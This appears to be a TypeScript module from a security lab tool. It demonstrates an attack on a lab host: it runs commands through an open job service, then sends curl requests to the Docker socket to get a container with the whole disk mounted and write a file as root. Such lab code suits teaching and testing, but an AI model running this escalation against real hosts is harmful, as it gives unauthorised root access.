import { randomBytes } from 'node:crypto'
import { type ConnectionOutcome, type HostProbe, msg, type Params, verbatim } from '../../contract/index.ts'
import { attemptRun, refused, succeeded, untried, type Attacker, type Ending } from '../shared/attempt.ts'
import { takeOver, type Call } from '../shared/take-over.ts'
import { runJob } from './observe-socket.ts'

const PATIENCE_S = 20

export const attempt = {
  title: msg`Send a job that becomes root`,
  description: msg`Have the account that runs jobs ask Docker for a container with the whole disk in it, and write a file as root. It is removed again.`,
  run: attemptRun('docker-anatomy', attack),
}

async function attack({ lab, params, step }: Attacker): Promise<Ending> {
  const master = lab.host('master')
  const { account = '', jobPort = '' } = params
  const hello = await job(master, params, 'id')
  step(
    msg`Send the job “id” to port ${jobPort}`,
    wasRun(hello) ? verbatim(hello.output.trim()) : msg`Nobody runs it.`,
    wasRun(hello),
  )
  if (!wasRun(hello)) return untried(msg`Nobody runs jobs on port ${jobPort}, so there was no way to try.`)
  const token = randomBytes(6).toString('hex')
  const isRoot = await takeOver(master, byJob(master, params), token, step)
  return isRoot
    ? succeeded(msg`${account} has no rights of its own, and became root by asking Docker.`)
    : refused(msg`Jobs run as ${account}, and that is all: Docker takes no orders from them.`)
}

/** What a job said and ended with. */
interface Job {
  status: number
  output: string
}

/** What came of asking for it where nobody ran it. */
async function job(master: HostProbe, params: Params, run: string): Promise<Job | ConnectionOutcome> {
  const outcome = await runJob(master, params, run, (PATIENCE_S + 5) * 1000)
  return outcome.kind === 'answered' && outcome.status === 200 ? (JSON.parse(outcome.body) as Job) : outcome
}

const wasRun = (came: Job | ConnectionOutcome): came is Job => 'output' in came

/** Requests to Docker that jobs make with curl. */
function byJob(master: HostProbe, params: Params): Call {
  return async ({ method = 'GET', path, body }): Promise<ConnectionOutcome> => {
    const data =
      body === undefined ? [] : ['-H', 'Content-Type: application/json', '-d', JSON.stringify(body)]
    const options = ['-sS', '-m', String(PATIENCE_S), '--unix-socket', '/run/docker.sock', '-X', method]
    const words = ['curl', ...options, ...data, '-w', '\n%{http_code}', `http://docker${path}`]
    const done = await job(master, params, words.map(quoted).join(' '))
    if (!wasRun(done)) return done
    if (done.status !== 0) return { kind: 'refused', message: done.output.trim() }
    const [, answer = '', status] = /^([^]*)\n(\d{3})$/.exec(done.output.trimEnd()) ?? []
    return { kind: 'answered', status: Number(status), body: answer }
  }
}

/** As one word of a shell. */
function quoted(word: string): string {
  return `'${word.replaceAll("'", `'\\''`)}'`
}
